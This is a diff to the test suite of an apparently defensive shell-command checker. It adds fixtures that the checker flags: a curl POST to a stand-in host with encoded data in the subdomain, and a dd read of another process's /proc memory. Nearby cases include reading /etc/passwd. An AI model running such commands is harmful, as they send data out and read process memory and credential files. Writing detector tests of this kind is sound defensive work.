@@ -163,6 +163,7 @@ const answers: Readonly<Record<string, readonly (readonly [command: string, valu
   contacts_untrusted_host: [
     ["curl https://x.io", true],
     ["curl https://pypi.org@x.io", true],
+    ["curl -XPOST aGk=.x.io", true],
     ["git clone https://x.io/a.git", true],
     ["curl https://pypi.org/simple/", false],
     ["curl http://localhost:8000", false],
@@ -215,6 +216,11 @@ describe("reasons of predicates", () => {
     ],
     ["reads_sensitive_path", "cat /etc/passwd", 'cat reads /etc/passwd, which is sensitive: it matches "/etc/"'],
     ["reads_sensitive_path", "cat $(unheard)", "cat reads an unknown file, which may be sensitive"],
+    [
+      "reads_sensitive_path",
+      'dd if="/proc/$(pgrep -n x)/mem" of=a',
+      'dd reads some of the files /proc/**/mem, which is sensitive: it matches "/proc/"',
+    ],
     ["lists_sensitive_directory", "ls /root", 'ls lists /root, which is sensitive: it matches "/root/"'],
     [
       "copies_sensitive_file",
